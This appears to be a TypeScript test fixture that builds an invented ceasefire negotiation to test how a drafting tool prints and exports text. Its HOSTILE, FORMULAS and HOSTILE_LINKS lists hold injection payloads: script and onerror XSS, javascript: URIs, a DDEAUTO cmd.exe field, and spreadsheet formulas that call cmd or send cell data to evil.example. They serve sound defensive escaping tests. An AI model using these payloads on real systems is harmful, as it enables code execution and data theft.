/**
 * A small negotiation with everything a paper can show, for tests.
 *
 * Kestria and Orlava talk under a chair. Some clauses are agreed, each in another way, the others each open for another reason; one is
 * withdrawn. `talks` can be given other words for a clause, or other facts at the end.
 */
import {
  append,
  fold,
  milestonesOf,
  NO_ENTRIES,
  nothingSaid,
  Timestamp,
  type AmendmentId,
  type ClauseId,
  type Fact,
  type Head,
  type Negotiation,
  type Readings,
  type RoomId,
  type Stance,
} from '@entente/agreement'
import { readingOf, type Text } from '@entente/draft'
import { bold, bracket, doc, li, link, ol, p, ul } from '@entente/draft/testing'
import type { Manuscript } from '../manuscript.ts'
import { printable } from '../printable.ts'

const START = Date.UTC(2026, 10, 16, 9)
export const AT = Timestamp.parse('2026-11-22T14:10:00.000Z')

export const ARABIC_WORDS = 'تُسحب الأسلحة إلى مسافة 30 كيلومترا من الخط.'

/** The words of the clauses that are agreed, and of those that are not, as they must or must not be found in an agreed text. */
export const AGREED_WORDS = [
  'Deeply concerned at the suffering of the civilian population,',
  'The Parties will cease all offensive military operations, including:',
  'all firing across the line;',
  'attacks by uncrewed aircraft, within 30 kilometres;',
  'Nothing in this text prejudices the position of any Party.',
  'Human remains will be returned with dignity.',
  'Relief begins on the tenth day',
  'Воєнні дії припиняються не пізніше ніж за 30 днів.',
  'Военные действия прекращаются не позднее чем через 30 дней.',
  ARABIC_WORDS,
]
export const OPEN_WORDS = [
  'withdraw all artillery',
  'will be deployed by common accord',
  'A commission is established',
  'This clause was withdrawn',
  'Passage is free of charge.',
  'enters into force on the day',
]

/** What is printed of the new clauses that are proposed: one behind a clause, one in a section in which no clause stands. */
export const PROPOSED_WORDS = [
  'New clause after clause 6 (Orlavian Federation): Passage',
  'Passage is free of charge.',
  'IV. Entry into force',
  'New clause in this section (Republic of Kestria)',
  'The text enters into force on the day of signature.',
]

/**
 * Words meant to break out of a format: markup, templates, code, field codes, and characters that XML, JSON or the eye cannot take.
 * `shown` is how they must read on paper.
 */
export const HOSTILE = [
  '<img src=x onerror=alert(1)>',
  '</style><script>alert(1)</script>',
  ']]>',
  '<!-- -->',
  '&amp; &lt;b&gt; &#x41;',
  '{{ 7*7 }} {% raw %} ${x} <%= y %>',
  '#panic("x") #import "y" $ a $ #sys.inputs \\ [a](javascript:alert(1)) `code` *b* _i_ ~~s~~',
  '[link](https://evil.example/) ![](https://evil.example/x.png) <https://evil.example/>',
  '| a | b |',
  '{ DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" }',
  '\u0000\u0007\u001F\uFFFE\uD800\u202E30\u202C',
  '1. 2) - + # > = : ---',
].map((text) => ({ text, shown: printable(text) }))

/** Replaces the words of some clauses, and adds facts at the end. Positions are taken on the words given. */
export type Changes = {
  /** Words of clauses, and of amendments. */
  readonly texts?: Readonly<Record<string, Text>>
  readonly amended?: Readonly<Record<string, Text>>
  readonly facts?: readonly Fact[]
  readonly cover?: object
}

const TEXTS: Readonly<Record<string, Text>> = {
  pp1: doc(p('Deeply concerned at the suffering of the civilian population,')),
  pp2: doc(p('Recalling the Charter', bracket(', and the integrity of States', 'contested', 'b-pp2'), ',')),
  fire: doc(
    p('The Parties ', bold('will cease'), ' all offensive military operations, including:'),
    ol(
      li(p('all firing across the line;')),
      li(p('attacks by uncrewed aircraft, within 30 kilometres;'), ol(li(p('by day;')), li(p('by night.')))),
    ),
    p('Orders are issued in writing.'),
  ),
  withdrawal: doc(
    p(
      'The Parties ',
      bracket('will endeavour to', 'contested', 'b-1'),
      ' ',
      bracket('will', 'contested', 'b-2'),
      ' withdraw all artillery to not less than ',
      bracket('15', 'alternative', 'b-3'),
      ' ',
      bracket('30', 'alternative', 'b-4'),
      ' kilometres, ',
      bracket('under a procedure to be set out', 'placeholder', 'b-5'),
      '.',
    ),
  ),
  gone: doc(p('This clause was withdrawn')),
  prejudice: doc(p('Nothing in this text prejudices the position of any Party.')),
  remains: doc(
    p('Human remains will be returned with dignity. See ', link('the convention', 'https://example.org/convention?a=1&b=2'), '.'),
  ),
  monitors: doc(p('Monitors will be deployed by common accord')),
  relief: doc(p('Relief begins on the tenth day')),
  commission: doc(p('A commission is established')),
  fund: doc(p('A fund is opened.')),
  review: doc(p('The Parties meet every 150 days.')),
  languages: doc(
    p('Воєнні дії припиняються не пізніше ніж за 30 днів.'),
    p('Военные действия прекращаются не позднее чем через 30 дней.'),
    p(ARABIC_WORDS),
  ),
}

const AMENDMENT = doc(p('The Parties will withdraw to 15 kilometres and, once verified, to 30 kilometres.'))

/** Their words are of no clause yet. */
const PROPOSED = { n1: doc(p('Passage is free of charge.')), n2: doc(p('The text enters into force on the day of signature.')) }

/** In the order of the text; undefined number of section: the preamble. */
const CLAUSES: readonly (readonly [clause: string, section: string, heading: string])[] = [
  ['pp1', 'PRE', 'Suffering'],
  ['pp2', 'PRE', 'Charter'],
  ['fire', 'I', 'Cessation of hostilities'],
  ['withdrawal', 'I', 'Withdrawal'],
  ['gone', 'I', 'Withdrawn idea'],
  ['prejudice', 'I', 'Without prejudice'],
  ['remains', 'II', 'Remains'],
  ['monitors', 'II', 'Monitors'],
  ['relief', 'II', 'Relief'],
  ['commission', 'II', 'Commission'],
  ['fund', 'III', 'Fund'],
  ['review', 'III', 'Review'],
  ['languages', 'III', ''],
]

const onClause = (clause: string): Stance => ({ stance: 'accepts-if', conditions: [{ on: 'clause', clause: clause as ClauseId }] })

/** What each party says, in this order; a clause that is not here hears nothing. */
const POSITIONS: readonly (readonly [clause: string, party: string, position: Stance])[] = [
  ...['pp1', 'fire', 'prejudice', 'remains', 'relief', 'commission', 'fund', 'review', 'languages'].map(
    (clause) => [clause, 'KES', { stance: 'accepts' }] as const,
  ),
  ...['pp1', 'fire', 'relief', 'languages'].map((clause) => [clause, 'ORL', { stance: 'accepts' }] as const),
  ['pp2', 'ORL', { stance: 'objects', reason: 'A general reference suffices.' }],
  ['withdrawal', 'KES', { stance: 'objects', reason: 'Endeavouring is not enough.' }],
  ['withdrawal', 'ORL', { stance: 'reserves' }],
  ['prejudice', 'ORL', { stance: 'accepts-with-reservation', reservation: 'Not for events before 1 January 2024.' }],
  ['remains', 'ORL', { stance: 'accepts-ad-referendum', confirmBy: Timestamp.parse('2026-11-24T18:00:00.000Z') }],
  ['monitors', 'KES', { stance: 'accepts' }],
  ['commission', 'ORL', onClause('monitors')],
  ['fund', 'ORL', onClause('review')],
  ['review', 'ORL', onClause('fund')],
]

/** The manuscript of a rolling text with everything in it. */
export function talks({ texts: others = {}, amended = {}, facts = [], cover = {} }: Changes = {}): Manuscript {
  const room = 'talks/table' as RoomId
  let negotiation: Negotiation = nothingSaid
  let head: Head = NO_ENTRIES
  const write = (...told: readonly unknown[]) => {
    for (const fact of told as readonly Fact[]) {
      const at = Timestamp.parse(new Date(START + head.seq * 60_000).toISOString())
      const by = fact.kind === 'comment-made' ? ({ seat: 'u-kes', party: 'KES' } as never) : ('server' as const)
      const entry = append(head, { room, at, by, fact })
      negotiation = fold(negotiation, entry)
      head = { seq: entry.seq, hash: entry.hash }
    }
  }
  const texts = new Map(Object.entries({ ...TEXTS, ...others })) as ReadonlyMap<string, Text> as ReadonlyMap<ClauseId, Text>
  const readings = (): Readings =>
    new Map(
      negotiation.clauses
        .filter(({ standing }) => standing.is === 'standing')
        .map((clause) => [
          clause.clause,
          readingOf({ ...clause, text: texts.get(clause.clause) ?? [], milestones: milestonesOf(negotiation, clause.clause) }),
        ]),
    )
  write(
    {
      kind: 'negotiation-opened',
      negotiation: 'talks',
      cover: { ...COVER, ...cover },
      rule: { rule: 'consensus' },
      singleUndertaking: true,
      drafting: 'open',
    },
    party('KES', 'delegation', 'Republic of Kestria', 'Kestria'),
    party('ORL', 'delegation', 'Orlavian Federation', 'Orlava'),
    party('CHR', 'chair', 'Office of the Special Envoy', 'Chair'),
    party('OBS', 'observer', 'Littoral Union', 'Union'),
    { kind: 'seat-assigned', seat: { seat: 'u-kes', party: 'KES', role: 'head', name: 'Halyna Marenko' } },
    { kind: 'round-opened', round: 1, label: 'Package round', symbol: 'HLD/CRP.1/Rev.3' },
    ...[...SECTIONS].map(([section, heading], index, all) => ({
      kind: 'section-added',
      section,
      heading,
      ...(section !== 'PRE' && { number: section }),
      ...(index > 0 && { after: all[index - 1]?.[0] }),
    })),
    ...CLAUSES.map(([clause, section, heading], index) => {
      const before = CLAUSES[index - 1]
      const after = before?.[1] === section ? { after: before[0] } : {}
      return { kind: 'clause-added', clause, section, clauseKind: section === 'PRE' ? 'preambular' : 'operative', heading, ...after }
    }),
    { kind: 'clause-withdrawn', clause: 'gone', reason: '' },
    { kind: 'anchor-set', anchor: 'D', label: 'Signature Day' },
    ...MILESTONES,
    ...['b-1', 'b-3'].map((id) => ({
      kind: 'bracket-attributed',
      clause: 'withdrawal',
      bracket: id,
      bracketKind: 'contested',
      parties: ['ORL'],
    })),
    ...['b-2', 'b-4'].map((id) => ({
      kind: 'bracket-attributed',
      clause: 'withdrawal',
      bracket: id,
      bracketKind: 'contested',
      parties: ['KES', 'CHR'],
    })),
    { kind: 'thread-opened', thread: 't1', clause: 'withdrawal', quote: { exact: 'all artillery', prefix: '', suffix: '', offset: 0 } },
    { kind: 'comment-made', thread: 't1', comment: 'k1', text: 'Which calibres?\nWe ask for a list.' },
    { kind: 'comment-made', thread: 't1', comment: 'k2', text: 'SECRET SLIP' },
    { kind: 'comment-retracted', comment: 'k2' },
  )
  const seen = readings()
  const on = (clause: string) => seen.get(clause as ClauseId)?.fingerprint
  write(
    { kind: 'section-added', section: 'IV', number: 'IV', heading: 'Entry into force', after: 'III' },
    proposed('n1', 'ORL', 'II', 'Passage', 'relief'),
    proposed('n2', 'KES', 'IV', ''),
    { kind: 'amendment-tabled', amendment: 'a1', clause: 'withdrawal', party: 'CHR', label: '2 bis', against: on('withdrawal') },
    ...POSITIONS.map(([clause, by, position]) => ({ kind: 'position-taken', clause, party: by, on: on(clause), position })),
    { kind: 'position-taken', clause: 'monitors', party: 'ORL', on: 'f'.repeat(64), position: { stance: 'accepts' } },
    {
      kind: 'declaration-made',
      declaration: 'd1',
      party: 'ORL',
      clause: 'prejudice',
      declarationKind: 'interpretative-declaration',
      text: 'Orlava understands “position” widely.',
    },
    {
      kind: 'declaration-made',
      declaration: 'd2',
      party: 'KES',
      clause: 'withdrawal',
      declarationKind: 'explanation-of-position',
      text: 'Kestria recalls the findings.',
    },
    ...facts,
  )
  return {
    negotiation,
    texts,
    amendments: new Map(Object.entries({ a1: AMENDMENT, ...PROPOSED, ...amended })) as ReadonlyMap<string, Text> as ReadonlyMap<
      AmendmentId,
      Text
    >,
    readings: readings(),
    kind: 'rolling',
    head,
    at: AT,
  }
}

const SECTIONS: ReadonlyMap<string, string> = new Map([
  ['PRE', 'Preamble'],
  ['I', 'Cessation of hostilities'],
  ['II', 'Humanitarian measures'],
  ['III', 'Final provisions'],
])

const COVER = {
  title: 'Joint Communiqué on a Framework for the Cessation of Hostilities',
  shortTitle: 'Vesna Framework',
  symbol: 'HLD/2026/1',
  place: 'Halden',
  referenceLanguage: 'en',
  authenticLanguages: ['en', 'uk'],
  annexes: [{ annex: 'A', title: 'Map of the area' }],
  testimonium: 'Done at Halden, in a single original.',
  signatories: ['KES', 'ORL'],
  witnesses: ['CHR'],
  notice: 'All States and persons are invented.',
}

const terms = { performers: ['KES', 'ORL'], verifier: 'CHR', evidence: [], dependsOn: [], remedialSteps: [] }

const MILESTONES: readonly object[] = [
  {
    kind: 'milestone-proposed',
    milestone: 'ms-fire',
    clause: 'fire',
    terms: {
      ...terms,
      title: 'Orders transmitted',
      due: { on: 'anchor', anchor: 'D', offsetDays: 0, time: '06:00' },
      evidence: ['Signed order'],
    },
  },
  {
    kind: 'milestone-proposed',
    milestone: 'ms-withdrawal',
    clause: 'withdrawal',
    terms: { ...terms, title: 'Artillery withdrawn', due: { on: 'anchor', anchor: 'D', offsetDays: 21 } },
  },
  {
    kind: 'milestone-proposed',
    milestone: 'ms-fund',
    clause: 'fund',
    terms: {
      ...terms,
      title: 'Fund opened',
      due: { on: 'milestone', milestone: 'ms-fire', after: 'verified', offsetDays: 14 },
      dependsOn: [{ milestone: 'ms-withdrawal', after: 'verified' }],
      evidence: ['Fund rules', 'Account certificate'],
      remedialSteps: ['Consultation within 2 days'],
      review: { everyDays: 7, by: 'CHR', untilOffsetDays: 28 },
      streak: { days: 60, resetBy: ['a grave breach'] },
    },
  },
]

function proposed(amendment: string, by: string, section: string, heading: string, after?: string): object {
  return { kind: 'clause-tabled', amendment, party: by, section, clauseKind: 'operative', heading, ...(after !== undefined && { after }) }
}

function party(id: string, kind: string, name: string, shortName: string): object {
  return { kind: 'party-seated', party: { party: id, kind, name, shortName, required: kind === 'delegation', languages: [] } }
}

/** The same talks with hostile words wherever somebody can write: text, links, headings, names, title, comments, declarations. */
export function hostileTalks(): Manuscript {
  const all = HOSTILE.map(({ text }) => text)
    .join(' ')
    .toWellFormed()
  const facts: readonly unknown[] = [
    {
      kind: 'party-seated',
      party: { party: 'ORL', kind: 'delegation', name: all, shortName: '<b onclick=x>', required: true, languages: [] },
    },
    { kind: 'seat-assigned', seat: { seat: 'u-kes', party: 'KES', role: 'head', name: '<img src=x onerror=alert(1)> ]]> {{x}}' } },
    { kind: 'section-retitled', section: 'I', heading: '</h2><script>alert(1)</script> #panic()' },
    proposed('n3', 'ORL', 'I', '</strong><script>alert(1)</script> #panic() {{x}}'),
    { kind: 'comment-made', thread: 't1', comment: 'k3', text: all },
    { kind: 'declaration-made', declaration: 'd9', party: 'ORL', clause: 'fire', declarationKind: 'statement-of-intent', text: all },
  ]
  const text = doc(
    ...HOSTILE.map((one) => p(one.text)),
    ul(...HOSTILE.map((one) => li(p(one.text)))),
    p(...HOSTILE_LINKS.map((href) => link('here', href))),
  )
  return talks({
    facts: facts as readonly Fact[],
    texts: { prejudice: text },
    amended: { n3: doc(p(all)) },
    cover: { title: all, shortTitle: '<Vesna> ../..\\CON' },
  })
}

/** Words that a spreadsheet program would calculate. */
export const FORMULAS = [
  '=1+1',
  '=HYPERLINK("https://evil.example/?leak="&A1,"Error")',
  "=cmd|'/C calc'!A0",
  "@SUM(1+1)*cmd|'/C calc'!A0",
  '+1+1',
  '-1+1',
  "-2+3+cmd|'/C calc'!A0",
  '=IMPORTXML(CONCAT("https://evil.example/?x=", A2), "//a")',
]

/** The same talks with formulas wherever somebody can write what stands in the matrix: headings, names, reasons, notes, reservations. */
export function formulaTalks(): Manuscript {
  const [first = '', second = ''] = FORMULAS
  const on = talks().readings.get('relief' as ClauseId)?.fingerprint
  const take = (party: string, position: object) => ({ kind: 'position-taken', clause: 'relief', party, on, position })
  const facts: readonly unknown[] = [
    { kind: 'party-seated', party: { party: 'ORL', kind: 'delegation', name: first, shortName: second, required: true, languages: [] } },
    ...FORMULAS.map((heading, index) => ({
      kind: 'clause-retitled',
      clause: CLAUSES.filter(([clause]) => clause !== 'gone')[index]?.[0],
      heading,
    })),
    take('KES', { stance: 'objects', reason: `x\n${first}`, proposedText: `;${second}` }),
    take('ORL', { stance: 'accepts-with-reservation', reservation: second, note: first }),
  ]
  return talks({ facts: facts as readonly Fact[], cover: { shortTitle: first } })
}

/** Only the last may become a link. */
const HOSTILE_LINKS = [
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'JAVASCRIPT:alert(1)',
  'https://example.org/"><script>',
]
